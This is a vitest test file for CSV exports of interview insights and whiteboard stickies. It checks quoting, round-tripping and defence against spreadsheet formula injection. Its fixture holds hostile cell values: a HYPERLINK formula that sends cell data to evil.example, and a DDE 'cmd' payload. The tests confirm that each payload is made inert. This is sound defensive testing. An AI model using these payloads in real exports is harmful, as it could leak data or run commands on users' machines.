import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { csvDocument, csvField } from '../../../../src/exports/csv/csv-format';
import { renderExport } from '../../../../src/exports/render-export';
import { INSIGHTS_CSV_HEADER, renderInsightsCsv } from '../../../../src/exports/csv/insights-csv';
import { WHITEBOARD_CSV_HEADER, renderWhiteboardCsv, renderWhiteboardText } from '../../../../src/exports/csv/whiteboard-csv';
import type { ExportInsight, ExportModel, ExportQuote } from '../../../../src/exports/export-model';
import { sampleExportModel } from '../../../support/export-fixtures';

type Row = Record<string, string>;

/** Parses as a spreadsheet would: strict RFC 4180 (quotes only where allowed), BOM removed, header as keys. */
function rowsOf(csv: string): Row[] {
  return parse(csv, { bom: true, columns: true, relax_quotes: false, relax_column_count: false, skip_empty_lines: false }) as Row[];
}

const headerOf = (csv: string) => (parse(csv, { bom: true, to_line: 1 }) as string[][])[0];

interface ExtraInsight {
  id: string;
  /** The participant's words, appended to the first interview's transcript. */
  text: string;
  speaker: string;
  time: string;
  /** Renames the first interview (default: its own name). */
  interviewName?: string;
  about: Pick<ExportInsight, 'title' | 'description' | 'tag' | 'theme'>;
  /** Also add an insight without quotes after it. */
  withUnquoted?: boolean;
}

/** The sample model with one more insight, first on the board, quoting `text` from the first interview. */
function withFirstInsight(model: ExportModel, extra: ExtraInsight): { model: ExportModel; quote: ExportQuote; insight: ExportInsight; interviewName: string } {
  const interview = model.interviews[0];
  const interviewName = extra.interviewName ?? interview.name;
  const start = interview.text.length + 1;
  const quote: ExportQuote = {
    text: extra.text,
    documentId: interview.id,
    speaker: extra.speaker,
    start,
    end: start + extra.text.length,
    documentName: interviewName,
    time: extra.time,
    citation: `— ${extra.speaker}, ${interviewName} · ${extra.time}`,
  };
  const insight: ExportInsight = { id: extra.id, ...extra.about, source: 'manual', quotes: [quote], documentIds: [interview.id] };
  const unquoted: ExportInsight[] = extra.withUnquoted ? [{ ...insight, id: 'no-quotes', title: 'An insight without quotes', quotes: [] }] : [];
  return {
    model: {
      ...model,
      themes: [{ name: insight.theme, insights: [insight, ...unquoted], interviewCount: 1, quoteCount: 1 }, ...model.themes],
      interviews: [{ ...interview, name: interviewName, text: `${interview.text}\n${extra.text}` }, ...model.interviews.slice(1)],
    },
    quote,
    insight,
    interviewName,
  };
}

/** One more insight, first on the board, whose quote has commas, quotes and a line break. */
const withAwkwardQuote = (model: ExportModel) =>
  withFirstInsight(model, {
    id: 'awkward',
    text: `He said, "well… it's fine",\r\nthen left, 🙂 "twice".`,
    speaker: 'P "one", lead',
    time: '01:02:03',
    about: { title: 'Commas, "quotes"\nand lines', description: 'A description, with "quotes".', tag: 'edge, case', theme: 'Edge "cases", first' },
    withUnquoted: true,
  });

/**
 * One more insight, first on the board, in which every piece of third-party text (theme, title, description, tag,
 * the participant's words, the speaker label, the file name) starts like a spreadsheet formula.
 */
const withFormulas = (model: ExportModel) =>
  withFirstInsight(model, {
    id: 'formulas',
    text: '=1+2 is what I typed into the cell',
    speaker: '@SUM(A1:A9)',
    time: '00:00:05',
    interviewName: '-2+3 interview.txt',
    about: { title: '=HYPERLINK("http://evil.example/?"&A1,"Click")', description: "+cmd|' /C calc'!A0", tag: '\tabbed', theme: '\r=1+1' },
  });

let model: ExportModel;
beforeAll(async () => {
  model = await sampleExportModel();
}, 60_000);

const allQuotes = (m: ExportModel) => m.themes.flatMap((t) => t.insights.flatMap((i) => i.quotes.map((q) => ({ theme: t.name, insight: i, quote: q }))));

describe('CSV format', () => {
  it('quotes only what needs it, doubles inner quotes, ends every line with CRLF after a BOM', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(null)).toBe('');
    expect(csvField(0)).toBe('0');
    expect(csvDocument(['A', 'B'], [['1', 'x,y']])).toBe('\uFEFFA,B\r\n1,"x,y"\r\n');
  });

  it('makes a text cell that a spreadsheet would run as a formula inert with a leading apostrophe (OWASP)', () => {
    expect(csvField('=1+2')).toBe("'=1+2");
    expect(csvField('+1')).toBe("'+1");
    expect(csvField('-1')).toBe("'-1");
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('\tx')).toBe("'\tx");
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
    expect(csvField('＝1+2')).toBe("'＝1+2");
    expect(csvField('=HYPERLINK("http://x","y")')).toBe(`"'=HYPERLINK(""http://x"",""y"")"`);
    // Only the first character counts; our own numbers stay numbers.
    expect(csvField('a=1')).toBe('a=1');
    expect(csvField(' =1')).toBe(' =1');
    expect(csvField(-3)).toBe('-3');
  });
});

describe('formula injection', () => {
  it('the spreadsheet of insights shows every formula-like text cell as text, with an apostrophe before it', () => {
    const hostile = withFormulas(model);
    const row = rowsOf(renderInsightsCsv(hostile.model))[0];
    expect(row).toEqual({
      Theme: `'${hostile.insight.theme}`,
      'Insight ID': 'formulas',
      Insight: `'${hostile.insight.title}`,
      Description: `'${hostile.insight.description}`,
      Tag: `'${hostile.insight.tag}`,
      Quote: `'${hostile.quote.text}`,
      Speaker: "'@SUM(A1:A9)",
      Interview: "'-2+3 interview.txt",
      Timestamp: '00:00:05',
      Start: String(hostile.quote.start),
      End: String(hostile.quote.end),
    });
    // The apostrophe is the only change: without it the cell is the verbatim span.
    const transcript = hostile.model.interviews[0].text;
    expect(transcript.slice(Number(row.Start), Number(row.End))).toBe(row.Quote.slice(1));
  });

  it('the sticky-note CSV does the same for themes, titles and file names', () => {
    const hostile = withFormulas(model);
    const [insightRow, quoteRow] = rowsOf(renderWhiteboardCsv(hostile.model));
    expect(insightRow).toEqual({
      Theme: `'${hostile.insight.theme}`,
      Sticky: `'${hostile.insight.title}`,
      Type: 'Insight',
      Source: `'${hostile.interviewName}`,
      Insight: `'${hostile.insight.title}`,
    });
    // A quote sticky opens with “, so it is already inert and stays exactly as written.
    expect(quoteRow.Sticky).toBe(`“${hostile.quote.text}” ${hostile.quote.citation}`);
    expect(quoteRow.Source).toBe(`'${hostile.interviewName}`);
  });

  it('every other deliverable keeps the quote exactly as said, with no apostrophe', async () => {
    const hostile = withFormulas(model);
    const clipboard = renderWhiteboardText(hostile.model);
    expect(clipboard).toContain(`“${hostile.quote.text}” ${hostile.quote.citation}`);
    expect(clipboard).not.toContain(`'${hostile.quote.text}`);
    const report = (await renderExport(hostile.model, 'report.html')).toString('utf8');
    expect(report).toContain(hostile.quote.text);
    expect(report).not.toContain(`'${hostile.quote.text}`);
  });
});

describe('whiteboard CSV (Miro, FigJam)', () => {
  it('has one sticky per insight then one per quote, theme by theme in board order', () => {
    const csv = renderWhiteboardCsv(model);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(headerOf(csv)).toEqual([...WHITEBOARD_CSV_HEADER]);
    const rows = rowsOf(csv);
    const expected = model.themes.flatMap((t) => t.insights.flatMap((i) => [[t.name, 'Insight', i.title], ...i.quotes.map(() => [t.name, 'Quote', i.title])]));
    expect(rows.map((r) => [r.Theme, r.Type, r.Insight])).toEqual(expected);
    expect([...new Set(rows.map((r) => r.Theme))]).toEqual(model.themes.map((t) => t.name));
    expect(rows.filter((r) => r.Type === 'Insight').map((r) => r.Sticky)).toEqual(model.themes.flatMap((t) => t.insights.map((i) => i.title)));
  });

  it('writes every quote verbatim followed by its citation, with its interview as the source', () => {
    const rows = rowsOf(renderWhiteboardCsv(model)).filter((r) => r.Type === 'Quote');
    const quotes = allQuotes(model);
    expect(quotes.length).toBeGreaterThan(10);
    expect(rows).toHaveLength(quotes.length);
    rows.forEach((row, n) => {
      const { quote } = quotes[n];
      expect(row.Sticky).toBe(`“${quote.text}” ${quote.citation}`);
      expect(row.Sticky.endsWith(quote.citation)).toBe(true);
      expect(row.Source).toBe(quote.documentName);
    });
  });

  it('round-trips a quote with commas, quotes and line breaks', () => {
    const awkward = withAwkwardQuote(model);
    const rows = rowsOf(renderWhiteboardCsv(awkward.model));
    expect(rows[0]).toEqual({ Theme: awkward.insight.theme, Sticky: awkward.insight.title, Type: 'Insight', Source: model.interviews[0].name, Insight: awkward.insight.title });
    expect(rows[1].Sticky).toBe(`“${awkward.quote.text}” ${awkward.quote.citation}`);
    expect(rows[1].Sticky).toContain('\r\n');
  });

  it('as plain text: a line per theme, then a line per sticky', () => {
    const awkward = withAwkwardQuote(model);
    const lines = renderWhiteboardText(awkward.model).split('\n');
    const expected = awkward.model.themes.flatMap((t, n) => [
      ...(n > 0 ? [''] : []),
      `${t.name}:`,
      ...t.insights.flatMap((i) => [i.title, ...i.quotes.map((q) => `“${q.text}” ${q.citation}`)]).map((s) => s.replace(/\s*[\r\n]+\s*/g, ' ')),
    ]);
    expect(lines).toEqual([...expected, '']);
    expect(lines).toContain(`“He said, "well… it's fine", then left, 🙂 "twice".” ${awkward.quote.citation}`);
  });
});

describe('insights CSV', () => {
  it('has one row per quote with its insight, speaker, interview, timestamp and offsets, in board order', () => {
    const csv = renderInsightsCsv(model);
    expect(headerOf(csv)).toEqual([...INSIGHTS_CSV_HEADER]);
    const rows = rowsOf(csv);
    const quotes = allQuotes(model);
    expect(rows).toHaveLength(quotes.length + model.themes.flatMap((t) => t.insights).filter((i) => i.quotes.length === 0).length);
    const quoted = rows.filter((r) => r.Quote !== '');
    expect(quoted).toHaveLength(quotes.length);
    quoted.forEach((row, n) => {
      const { theme, insight, quote } = quotes[n];
      expect(row).toEqual({
        Theme: theme,
        'Insight ID': insight.id,
        Insight: insight.title,
        Description: insight.description,
        Tag: insight.tag,
        Quote: quote.text,
        Speaker: quote.speaker,
        Interview: quote.documentName,
        Timestamp: quote.time ?? '',
        Start: String(quote.start),
        End: String(quote.end),
      });
      const transcript = model.interviews.find((i) => i.name === row.Interview)!.text;
      expect(transcript.slice(Number(row.Start), Number(row.End))).toBe(row.Quote);
    });
    expect(quoted.some((r) => r.Timestamp !== '')).toBe(true);
    expect([...new Set(rows.map((r) => r.Theme))]).toEqual(model.themes.map((t) => t.name));
  });

  it('round-trips awkward text, and keeps an insight without quotes as one row', () => {
    const awkward = withAwkwardQuote(model);
    const rows = rowsOf(renderInsightsCsv(awkward.model));
    expect(rows[0]).toMatchObject({
      Theme: 'Edge "cases", first',
      Insight: 'Commas, "quotes"\nand lines',
      Description: 'A description, with "quotes".',
      Tag: 'edge, case',
      Quote: awkward.quote.text,
      Speaker: 'P "one", lead',
      Timestamp: '01:02:03',
    });
    expect(rows[1]).toMatchObject({ 'Insight ID': 'no-quotes', Quote: '', Speaker: '', Interview: '', Start: '', End: '' });
    const transcript = awkward.model.interviews[0].text;
    expect(transcript.slice(Number(rows[0].Start), Number(rows[0].End))).toBe(awkward.quote.text);
  });
});
